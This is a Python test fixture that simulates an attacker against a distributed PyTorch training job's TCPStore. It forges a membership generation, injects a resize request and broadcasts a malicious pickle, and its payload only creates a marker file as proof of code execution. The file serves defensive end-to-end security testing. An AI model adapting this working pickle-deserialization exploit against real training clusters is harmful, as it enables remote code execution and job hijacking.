"""A process that reaches a job's store without the job's secret and tries what issue 17
saw work: (a) publish a generation with a fake member, (b) ask the coordinator to shrink
the job to one worker, (c) join the forged generation's process group and broadcast a
state header that is a pickle (which, unpickled, would create `--marker`).

    python tests/fakes/store_attacker.py --store 127.0.0.1:PORT --marker /tmp/pwned

Prints one JSON line of what it did. Used by tests/e2e/test_store_attack_job.py; never part of
gpuflex (this is the only file of the project that builds a pickle).
"""

from __future__ import annotations

import argparse
import datetime as dt
import json
import os
import pickle
import sys

import torch
import torch.distributed as dist
from torch.distributed import TCPStore

FAKE_WID = 99


class _Payload:
    """Unpickling this creates the marker file: the proof of code execution the issue saw."""

    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self):
        return (open, (self.marker, "w"))


def main() -> int:
    ap = argparse.ArgumentParser()
    ap.add_argument("--store", required=True)
    ap.add_argument("--marker", required=True)
    ap.add_argument("--pg-timeout", type=float, default=5.0)
    args = ap.parse_args()
    host, _, port = args.store.rpartition(":")
    store = TCPStore(host, int(port), is_master=False, wait_for_workers=False, timeout=dt.timedelta(seconds=10))
    did: dict[str, object] = {}

    # (a) a generation with a fake member, unsigned and "signed" with a guessed secret
    g = int(store.get("latest")) + 1
    members = [FAKE_WID, 0, 1, 2]
    record = {"generation": g, "kind": "resize", "members": members, "prev": [0, 1, 2],
              "created": 0.0, "message": "attacker"}
    store.set(f"members/{g}", json.dumps(record))
    store.set("latest", str(g))
    store.add("events", 1)
    did["generation"] = g

    # (b) a resize request shrinking the job to worker 0, in the old and the new shape
    store.set("desired_request", json.dumps([0]))
    store.add("events", 1)
    store.set("desired_request", "gf1." + "0" * 64 + "." + json.dumps({"members": [0], "seq": 10 ** 9}))
    store.add("events", 1)
    did["desired_request"] = [0]

    # (c) the forged generation's formation as its rank 0, as the runtime forms one: the
    # barrier, the process group, the step vote (claiming the newest state, so it is the
    # sender), then a pickle as the state header in broadcast_object_list's wire format
    payload = pickle.dumps(_Payload(args.marker))
    store.set(f"joined/{g}/{FAKE_WID}", "1")
    try:
        dist.init_process_group("gloo", store=dist.PrefixStore(f"pg/{g}/", store), rank=0,
                                world_size=len(members), timeout=dt.timedelta(seconds=args.pg_timeout))
        steps = torch.zeros(len(members), dtype=torch.int64)
        steps[0] = 10 ** 6
        dist.all_reduce(steps)
        n = torch.tensor([len(payload)], dtype=torch.int64)
        dist.broadcast(n, src=0)
        dist.broadcast(torch.frombuffer(bytearray(payload), dtype=torch.uint8), src=0)
        did["state"] = "broadcast"
    except Exception as e:   # nobody joined the forged generation
        did["state"] = f"no group: {type(e).__name__}"
    print(json.dumps(did), flush=True)
    sys.stdout.flush()
    os._exit(0)   # a half-formed gloo group must not hang the interpreter's exit


if __name__ == "__main__":
    sys.exit(main())
